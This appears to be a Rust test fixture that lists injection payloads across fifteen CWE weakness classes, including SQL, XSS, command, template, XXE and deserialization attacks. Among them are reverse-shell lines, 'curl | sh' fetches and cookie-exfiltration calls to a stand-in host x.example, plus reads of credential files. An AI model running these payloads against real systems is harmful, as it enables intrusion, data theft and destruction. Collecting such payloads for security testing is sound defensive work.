//! Attacks of the published weakness classes, written for these tests.

/// Every attack with its family.
pub fn all() -> impl Iterator<Item = (&'static str, &'static str)> {
    FAMILIES.iter().flat_map(|(family, payloads)| payloads.iter().map(move |payload| (*family, *payload)))
}

const FAMILIES: &[(&str, &[&str])] = &[
    ("CWE-89 SQL", SQL),
    ("CWE-79 script", SCRIPT),
    ("CWE-78 command", COMMAND),
    ("CWE-94 code", CODE),
    ("CWE-22 traversal", TRAVERSAL),
    ("CWE-98 inclusion", INCLUSION),
    ("CWE-918 forged request", FORGED),
    ("CWE-1336 template", TEMPLATE),
    ("CWE-90 directory", DIRECTORY),
    ("CWE-643 path expression", XPATH),
    ("CWE-943 document database", DOCUMENT),
    ("CWE-611 entities", ENTITIES),
    ("CWE-502 objects", OBJECTS),
    ("CWE-93 splitting", SPLITTING),
    ("CWE-97 server include", INCLUDES),
];

const SQL: &[&str] = &[
    "' or '1'='1", "' OR 1=1--", "admin'--", "admin' #", "' or ''='", "1 or 1=1", "1' and '1'='2", "\" or \"a\"=\"a", "') or ('x'='x", "1) or (1=1",
    "' union select null,null,null--", "1 UNION ALL SELECT username,password FROM users", "-1' union select 1,@@version,3#", "1 union/**/select/**/1,2,3", "1'/*!50000union*/ /*!select*/ 1,2--",
    "'; drop table patients;--", "1; DROP TABLE users", "1;update users set role='admin' where 1=1", "'; exec xp_cmdshell('dir')--", "1; waitfor delay '0:0:5'--", "'; shutdown with nowait--",
    "1 and sleep(5)", "1' and sleep(5)#", "' or sleep(5)='", "1 and (select * from (select(sleep(5)))a)", "1' and benchmark(5000000,md5(1))#", "'||pg_sleep(5)--", "1;select pg_sleep(5)",
    "1 and extractvalue(1,concat(0x7e,(select user())))", "1' and updatexml(1,concat(0x7e,version()),1)-- -", "1 and 1=(select count(*) from tablenames)", "1 and ascii(substring((select database()),1,1))>64",
    "1' order by 10--", "1' group by 1 having 1=1--", "' having 1=1--", "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)", "' and (select count(*) from information_schema.tables)>0--",
    "1 and exists(select * from users)", "(select load_file('/etc/passwd'))", "' into outfile '/var/www/x.php", "1' and 1=convert(int,@@version)--", "1 and cast((select version()) as int)=1",
    "'+(select top 1 name from sysobjects)+'", "' or 1 like 1--", "' or 'a' like 'a", "' || '1'='1", "' && '1'='1", "%27%20or%201%3D1--", "1%27%20union%20select%201,2--", "' oR/**/1=1#", "x' AND email IS NULL; --",
    "x'; insert into users (name) values ('a'); --", "if(1=1,sleep(5),0)", "1-if(substr(version(),1,1)=5,sleep(5),0)", "case when (1=1) then 1 else 2 end", "' and 1=0 union all select '', 'x'--", "1 or 1=1 limit 1--",
    "' or true--", "' or 1=1/*", "1' or '1'='1' ({", "'='", "'-'", "' or not false--", "select * from users where id=1", "delete from users where 1=1", "1,(select case when 1=1 then 1 else 1/0 end)",
    "' and dbms_pipe.receive_message('a',5)='a", "utl_http.request('http://x.example/')", "' and 1=utl_inaddr.get_host_address((select user from dual))--", "1 and randomblob(500000000)", "' union select sql from sqlite_master--",
];

const SCRIPT: &[&str] = &[
    "<script>alert(1)</script>", "<ScRiPt >alert(document.cookie)</sCrIpT>", "\"><script src=//x.example/a.js></script>", "<img src=x onerror=alert(1)>", "<img/src='x'/onerror=alert`1`>", "<svg onload=alert(1)>", "<svg/onload=confirm(1)>",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<a href=\"javascript:alert(1)\">x</a>", "<a href='jav&#x61;script:alert(1)'>x</a>", "<a href=\"java\tscript:alert(1)\">x</a>", "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<input autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>", "<object data=javascript:alert(1)>", "<embed src=data:text/html;base64,PHNjcmlwdD4=>",
    "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">", "<form action=javascript:alert(1)><input type=submit>", "<meta http-equiv=refresh content=0;url=javascript:alert(1)>", "<base href=javascript:/a/+alert(1)//>", "<link rel=stylesheet href=//x.example/x.css>",
    "<style>@import'javascript:alert(1)';</style>", "<div style=\"width:expression(alert(1))\">", "<isindex action=javascript:alert(1) type=image>", "javascript:alert(1)", "javascript://%0aalert(1)", "data:text/html,<script>alert(1)</script>",
    "';alert(1)//", "\";alert(String.fromCharCode(88,83,83))//", "';document.location='http://x.example/?'+document.cookie;//", "</script><script>alert(1)</script>", "-alert(1)-", "'-alert(1)-'", "${alert(1)}", "eval(atob('YWxlcnQoMSk='))", "window['alert'](1)",
    "top[\"al\"+\"ert\"](1)", "setTimeout('alert(1)')", "[].constructor.constructor('alert(1)')()", "<x onclick=alert(1)>click", "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>", "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<button formaction=javascript:alert(1)>x", "<textarea onfocus=alert(1) autofocus>",
    "<template><script>alert(1)</script></template>", "<a onmouseover=\"alert(1)\">x</a>", "<audio src onloadstart=alert(1)>", "<!--><img src=x onerror=alert(1)-->", "<script\\x20type=\"text/javascript\">javascript:alert(1);</script>", "<img srcset=x onerror=alert(1)>",
    "fetch('//x.example/'+document.cookie)", "new Image().src='http://x.example/'+document.cookie", "<iframe srcdoc='<script>alert(1)</script>'>", "localStorage.getItem('token')", "<table background=\"javascript:alert(1)\">", "\"autofocus onfocus=alert(1)//",
];

const COMMAND: &[&str] = &[
    "; cat /etc/passwd", "| cat /etc/passwd", "&& cat /etc/passwd", "`cat /etc/passwd`", "$(cat /etc/passwd)", "; ls -la", "| ls -al /", "; id", "|id", "`id`", "$(id)", "; whoami", "& whoami", "|| whoami", "; uname -a", "| uname -a", "; ping -c 5 127.0.0.1", "| ping -n 5 127.0.0.1",
    "; sleep 10", "| sleep 10", "$(sleep 10)", "`sleep 10`", "; wget http://x.example/a.sh", "; curl http://x.example/a.sh | sh", "| nc -e /bin/sh 10.0.0.1 4444", "; nc 10.0.0.1 4444 -e /bin/bash", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "; bash -c 'id'", "; python -c 'import os'",
    "; perl -e 'print 1'", "; rm -rf /", "a;cat${IFS}/etc/passwd", "cat$IFS/etc/passwd", "{cat,/etc/passwd}", ";c'a't /e't'c/passwd", ";c\\at /etc/pass\\wd", "w'h'o'am'i;id", "/bin/cat /etc/passwd", "/???/??t /???/p??s??", "/bin/c?t /etc/p?sswd", "& dir C:\\", "| type C:\\windows\\win.ini",
    "& net user", "| ipconfig /all", "& ping -n 10 127.0.0.1 &", "cmd.exe /c dir", "powershell -enc SQBFAFgA", "powershell.exe Get-Process", "certutil -urlcache -f http://x.example/a.exe a.exe", "() { :;}; /bin/bash -c 'id'", "() { _; } >_[$($())] { id; }", "; nslookup x.example", "| nslookup `whoami`.x.example",
    "\n/bin/ls -al\n", "test\ncat /etc/passwd", "; echo aWQ= | base64 -d | sh", "; env", "; printenv", "; ifconfig", "| netstat -an", "; ps aux", "; chmod 777 /tmp/x", "'; ls -la; '", "\"; id; \"", "1;id;", "x || ls", "%0Acat%20/etc/passwd", "; tail -n 5 /var/log/messages", "; head /etc/shadow", "; touch /tmp/pwned", "$(curl http://x.example)", "; reboot", "|reboot",
];

const CODE: &[&str] = &[
    "<?php system($_GET['c']); ?>", "<?php phpinfo(); ?>", "<?= `id` ?>", "system('id');", "';phpinfo();//", "${@phpinfo()}", "{${phpinfo()}}", "eval(base64_decode('cGhwaW5mbygpOw=='));", "assert($_POST['x'])", "shell_exec('ls')", "passthru(\"id\");", "file_get_contents('/etc/passwd')", "preg_replace('/a/e','phpinfo()','a')",
    "require('child_process').exec('id')", "process.env", "global.process.mainModule.require('fs')", "__import__('os').system('id')", "os.system('id')", "import os; os.popen('id').read()", "subprocess.Popen(['id'])", "().__class__.__bases__[0].__subclasses__()", "java.lang.Runtime.getRuntime().exec('id')", "T(java.lang.Runtime).getRuntime().exec('id')",
    "%{(#_memberAccess['allowStaticMethodAccess']=true)}", "(#context['xwork.MethodAccessor.denyMethodExecution']=false)", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "new java.lang.ProcessBuilder({'id'}).start()", "<%= 7*7 %>", "<%= system('id') %>", "<% Runtime.getRuntime().exec(\"id\") %>", "{\"__proto__\":{\"admin\":true}}", "constructor.prototype.admin=true", "=cmd|'/c calc'!A1", "Kernel.exec('id')", "%x(id)",
];

const TRAVERSAL: &[&str] = &[
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "....//....//etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2fetc/passwd", "..%252f..%252fetc%252fpasswd", "..%c0%af..%c0%afetc/passwd", "/..;/..;/manager/html", "../../boot.ini", "C:\\windows\\system32\\drivers\\etc\\hosts", "/proc/self/environ",
    "../../../WEB-INF/web.xml", "../.env", "/.git/config", "../../../../../../etc/shadow%00.jpg", "/var/log/apache2/access.log", "..././..././etc/passwd", "/%5c../%5c../etc/passwd", "\\..\\..\\..\\boot.ini", "/root/.ssh/id_rsa", "../wp-config.php", ".htaccess", "file:///etc/passwd", "..%u2216..%u2216windows/win.ini",
];

const INCLUSION: &[&str] = &[
    "php://filter/convert.base64-encode/resource=index.php", "php://input", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+", "expect://id", "zip://a.zip#x.php", "phar://x.phar/a", "file:///c:/boot.ini", "gopher://127.0.0.1:6379/_INFO", "dict://127.0.0.1:11211/stat", "\\\\10.0.0.1\\share\\x.php/../../etc/passwd", "jar:file:///tmp/a.jar!/x", "netdoc:///etc/passwd", "ldap://127.0.0.1/x",
];

const FORGED: &[&str] = &[
    "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:8080/admin", "http://localhost/server-status", "http://[::1]/", "http://0.0.0.0:22/", "http://2130706433/", "http://0x7f000001/", "http://metadata.google.internal/computeMetadata/v1/", "https://127.1/", "http://127.0.0.1.nip.io/", "//127.0.0.1/x", "http://user@127.0.0.1/", "http://100.100.100.200/latest/meta-data", "http://[::ffff:127.0.0.1]/", "gopher://localhost:25/_HELO",
];

const TEMPLATE: &[&str] = &[
    "{{7*7}}", "{{7*'7'}}", "${7*7}", "#{7*7}", "*{7*7}", "{{config}}", "{{config.items()}}", "{{self.__class__}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{request.application.__globals__}}", "{% import os %}{{os.system('id')}}", "{{constructor.constructor('alert(1)')()}}", "{{$on.constructor('alert(1)')()}}", "${{7*7}}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))", "${T(java.lang.System).getenv()}", "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x", "{{_self.env.registerUndefinedFilterCallback('exec')}}", "{php}echo `id`;{/php}", "{{lipsum.__globals__.os.popen('id').read()}}", "${jndi:ldap://x.example/a}", "${${lower:j}ndi:ldap://x.example/a}", "${${::-j}${::-n}di:dns://x}", "${env:AWS_SECRET_ACCESS_KEY}", "@(1+2)", "{{dump(app)}}", "[[${7*7}]]", "{{#with \"s\" as |string|}}", "<%= 7 * 7 %>",
];

const DIRECTORY: &[&str] = &[
    "*)(uid=*))(|(uid=*", "admin*)((|userPassword=*)", "*)(&", "*()|&'", "*)(objectClass=*", "(|(cn=*)(mail=*))", "x)(|(cn=*", "*))%00", "admin)(&)", "*)(uid=*)", ")(cn=))\\x00", "(&(uid=admin)(userPassword=*))", "*)(|(mail=*))",
];

const XPATH: &[&str] = &[
    "' or '1'='1' or ''='", "x' or name()='username' or 'x'='y", "'] | //user/*[contains(*,'", "' or count(/*)=1 or 'a'='b", "//user[position()=1]/password", "' or string-length(name(/*[1]))=6 or 'a'='b", "' and count(//*)>0 and '1'='1", "/*[1]/*[2]/text()", "x']|//*|//*['", "substring(//user[1]/password,1,1)='a'", "'or(1=1)or'", "child::node()", "ancestor::*", "'] or 1=1 or ['a'='a",
];

const DOCUMENT: &[&str] = &[
    "{\"$gt\":\"\"}", "{\"$ne\":null}", "{'$where':'sleep(1000)'}", "';return true;var a='", "' || 1==1//", "' || '1'=='1", "'; while(1);'", "this.password.match(/.*/)", "{$where: 'this.a==1'}", "db.users.find()", "db.injection.insert({success:1});", "1, $where: '1 == 1'", "' || this.password != '", "[$ne]=1", "{\"username\":{\"$regex\":\"^a\"}}", "true, $where: '1'", "';sleep(5000);'", "__schema{types{name}}",
];

const ENTITIES: &[&str] = &[
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>", "<!DOCTYPE x SYSTEM \"http://x.example/a.dtd\" [ <!ENTITY % p SYSTEM \"http://x.example\"> %p; ]>", "<!ENTITY xxe SYSTEM \"php://filter/read=convert.base64-encode/resource=a\">", "<xi:include href=\"file:///etc/passwd\" parse=\"text\"/>", "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;\">]>", "<xsl:value-of select=\"system-property('xsl:vendor')\"/>", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ELEMENT a ANY>]><a/>",
];

const OBJECTS: &[&str] = &[
    "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", "a:2:{i:0;s:1:\"x\";i:1;O:3:\"Foo\":0:{}}", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "aced0005737200", "AAEAAAD/////AQAAAAAAAAAMAgAAAF9", "cos\nsystem\n(S'id'\ntR.", "!!python/object/apply:os.system ['id']", "--- !ruby/object:Gem::Requirement", "{\"rce\":\"_$$ND_FUNC$$_function (){require('child_process').exec('ls')}()\"}",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://x/a\"}", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader]", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\"}", "org.apache.commons.collections.functors.InvokerTransformer", "__reduce__",
];

const SPLITTING: &[&str] = &[
    "x\r\nSet-Cookie: a=b", "x%0d%0aSet-Cookie:%20a=b", "x\r\nLocation: http://x.example", "x\r\nContent-Type: text/html\r\n\r\n<html>", "x\nHTTP/1.1 200 OK", "x%0aContent-Length:%200%0a%0aHTTP/1.1 200 OK", "a@b.example\r\nBcc: c@d.example", "a@b.example%0aCc:c@d.example", "a\r\nRCPT TO:<c@d.example>", "GET /admin HTTP/1.1\r\nHost: x",
];

const INCLUDES: &[&str] = &[
    "<!--#exec cmd=\"ls\" -->", "<!--#include virtual=\"/etc/passwd\" -->", "<!--#echo var=\"DATE_LOCAL\" -->", "<esi:include src=\"http://x.example/\"/>", "<!--#printenv -->", "<!-- #config errmsg=\"x\" -->",
];
